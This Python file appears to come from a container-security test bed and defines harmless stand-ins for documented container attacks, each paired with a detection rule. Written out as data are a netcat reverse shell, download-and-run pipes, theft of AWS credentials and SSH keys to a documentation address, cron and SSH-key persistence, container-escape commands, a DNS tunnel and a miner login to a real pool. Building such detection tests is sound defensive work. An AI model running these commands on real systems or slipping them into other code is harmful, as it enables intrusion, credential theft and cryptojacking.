"""Bad images: harmless stand-ins for what documented campaigns do once their container runs.

Each is the innocent base with a script, and at most a small program. The addresses are of the networks for
documentation (RFC 5737): outside the sandbox, too, they belong to nobody.
"""

import base64
from functools import cache, partial
from typing import Final

from testbed import images
from testbed.behaviours.behaviour import Behaviour
from testbed.behaviours.debian import debian
from testbed.images import Image

_HOME: Final = "203.0.113.9"
_APPLETS: Final = (
    "awk base64 chroot crond crontab cut dd find gunzip gzip hexdump insmod kill ln ls mount mv nc nsenter nslookup od"
    " printf sed seq sh sort sysctl tail tar tee tr umount unshare usleep uname vi whoami xargs xxd"
)
_LOGIN: Final = (
    '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"'
    + "4" * 95
    + '","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}'
)
_ECHO: Final = "echo a shell from base64; sleep 1\n"


def _image(name: str, script: str, *programs: str) -> Image:
    """Return the base with a script that is started, programs of the test-bed, and busybox' other applets."""
    files: dict[str, bytes | str] = {
        "start": f"#!/bin/sh\n{script}\n".encode(),
        **{f"usr/bin/{program}": images.program(program) for program in programs},
        **{f"bin/{applet}": "busybox" for applet in _APPLETS.split()},
    }
    layer = images.archive(files, executable=tuple(files))
    return Image(f"evil/{name}:1", (*images.base().layers, layer), {"Entrypoint": ["/start"]})


@cache
def _behind_tls() -> Image:
    """Return a miner that is OpenSSL: all that it says is encrypted."""
    mine = f"echo '{_LOGIN}' | openssl s_client -quiet -connect gulf.moneroocean.stream:443"
    return debian("evil/pool:1", "openssl", Cmd=["/bin/sh", "-c", mine])


def _bad(
    name: str, about: str, script: str, *rules: str, programs: tuple[str, ...] = (), for_s: float = 3.0
) -> Behaviour:
    return Behaviour(name, about, partial(_image, name, script, *programs), frozenset(rules), for_s)


def _encoded(text: str, times: int) -> str:
    data = text.encode()
    for _ in range(times):
        data = base64.b64encode(data)
    return data.decode()


BAD: Final[tuple[Behaviour, ...]] = (
    _bad("drop", "Kinsing 2020: fetches a program to /tmp and runs it",
         "cp /bin/busybox /tmp/kdevtmp; chmod +x /tmp/kdevtmp; /tmp/kdevtmp true", "exec.drift"),
    _bad("replace", "Dero 2025: a program under a known name",
         "cp /usr/bin/probe /tmp/n; cat /tmp/n > /usr/bin/intruder; /usr/bin/intruder", "exec.modified",
         programs=("intruder",)),
    _bad("fileless", "TeamTNT 2021 (Ezuri): runs from memory", "probe memory /bin/busybox true", "exec.fileless"),
    _bad("shared-memory", "perfctl 2024: a program in /dev/shm",
         "cp /bin/busybox /dev/shm/.x; /dev/shm/.x true", "exec.volume"),
    _bad("cron", "LemonDuck 2022, the Tor variant of 2025: comes back every minute",
         f"mkdir -p /etc/cron.d; echo '* * * * * root wget -qO- http://{_HOME}/c' > /etc/cron.d/0systemd", "file.cron"),
    _bad("host-cron", "Doki 2020: writes the cron table of a host whose root is mounted",
         "mkdir -p /mnt/var/spool/cron; echo '* * * * * /tmp/x' > /mnt/var/spool/cron/root", "file.cron"),
    _bad("ssh-key", "TeamPCP 2026: lets itself in from then on",
         "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA x@y' >> /root/.ssh/authorized_keys", "file.ssh-key"),
    _bad("preload", "Xanthe 2020: hides processes by a library in every program",
         "echo /usr/lib/libprocesshider.so > /etc/ld.so.preload", "file.preload"),
    _bad("stratum", "the miners of 2020: Stratum in clear",
         f"probe tcp {_HOME} 8080 '{_LOGIN}'", "net.miner-protocol"),
    Behaviour("pool", "miners behind TLS: only the pool's name is to be seen", _behind_tls,
              frozenset({"net.miner-pool"})),
    _bad("burn", "miners behind TLS at a pool of their own: a full processor and a pool's port",
         f"intruder burn {_HOME} 3333", "run.mining", programs=("intruder",), for_s=4.0),
    _bad("subnet", "Graboid 2019, TeamTNT: looks for the next open engine in the neighbourhood",
         "probe scan 172.17.0. 2375", "net.scan"),
    _bad("internet", "masscan of the internet (the Tor variant of 2025): one port, addresses everywhere",
         "n=20; while [ $n -lt 60 ]; do probe tcp $n.113.7.1 2375 x & n=$((n+1)); done; wait", "net.scan"),
    _bad("chain", "Autom 2021: a script wrapped in base64 five times",
         f"echo {_encoded(_ECHO, 5)} | base64 -d | base64 -d | base64 -d | base64 -d | base64 -d | sh", "exec.decoded"),
    _bad("argument", "perfctl 2024: base64 on the command line", f'sh -c "echo {_encoded(_ECHO, 1)} | base64 -d | sh"',
         "exec.decoded"),
    _bad("sleeper", "waits ten minutes, then drops its program",
         "sleep 600; cp /bin/busybox /tmp/x; /tmp/x true", "exec.drift", for_s=4.0),
    _bad("thief", "TeamTNT 2021: takes the cloud's keys and sends them home",
         f'probe tcp {_HOME} 80 "$(cat /root/.aws/credentials)"', "bait.sent"),
    _bad("ssh-thief", "Xanthe 2020: takes private keys",
         f'tar -c -f /tmp/k.tar /root/.ssh 2>/dev/null; probe udp {_HOME} 9999 "$(base64 /tmp/k.tar | head -c 300)"',
         "bait.sent"),
    _bad("engine", "Graboid 2019: speaks to the engine", "intruder call /var/run/docker.sock", "bait.engine-socket",
         programs=("intruder",)),
    _bad("mount", "the release_agent escape of 2019: mounts a hierarchy of cgroups",
         "mkdir /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg; echo /cmd > /tmp/cg/release_agent", "kernel.escape"),
    _bad("unshare", "CVE-2022-0492: namespaces of its own, with all powers in them",
         "unshare -m -r sh -c 'mount -t tmpfs x /tmp'", "kernel.escape"),
    _bad("nsenter", "perfctl 2024: enters the host's namespaces", "nsenter -t 1 -m -u -n -i sh -c id", "exec.escape"),
    _bad("chroot", "TeamTNT, Commando Cat 2024: changes to the host's root",
         "mkdir -p /mnt/bin; chroot /mnt sh -c id", "kernel.escape"),
    _bad("core-pattern", "has the host's kernel run a program at the next crash",
         "sh -c 'echo \"|/tmp/x\" > /proc/sys/kernel/core_pattern'", "exec.escape"),
    _bad("module", "a rootkit as a kernel module", "cp /bin/busybox /tmp/x.ko; insmod /tmp/x.ko", "kernel.escape"),
    _bad("netcat", "a reverse shell of one line", f"nc {_HOME} 4444 -e /bin/sh", "exec.reverse-shell"),
    _bad("reverse", "a reverse shell whose command line tells nothing", f"intruder shell {_HOME} 443",
         "exec.reverse-shell", programs=("intruder",)),
    _bad("downloader", "d.sh of Kinsing, autom.sh: fetched and run unseen", f"wget -T 2 -qO- http://{_HOME}/d.sh | sh",
         "exec.piped-download"),
    _bad("core-png", "LemonDuck 2022: a script that calls itself a picture",
         f"printf 'GET /core.png HTTP/1.0\\r\\n\\r\\n' | nc {_HOME} 80 > /tmp/core.png; sh /tmp/core.png",
         "exec.piped-download"),
    _bad("tunnel", "data in the names of DNS questions",
         "n=0; while [ $n -lt 14 ]; do nslookup $(head -c 15 /dev/urandom | hexdump -e '1/1 \"%02x\"').evil.example; "
         "n=$((n+1)); done", "net.dns-tunnel"),
    _bad("no-traces", "covers its tracks",
         "rm -f /root/.bash_history; ln -sf /dev/null /root/.bash_history; sh -c 'unset HISTFILE; id'",
         "exec.covers-tracks"),
    _bad("sniffer", "reads its neighbours' traffic",
         f"probe packet 172.17.0.2 172.17.0.1 172.17.0.2 {_HOME} 9 x", "net.packet-socket"),
)  # fmt: skip
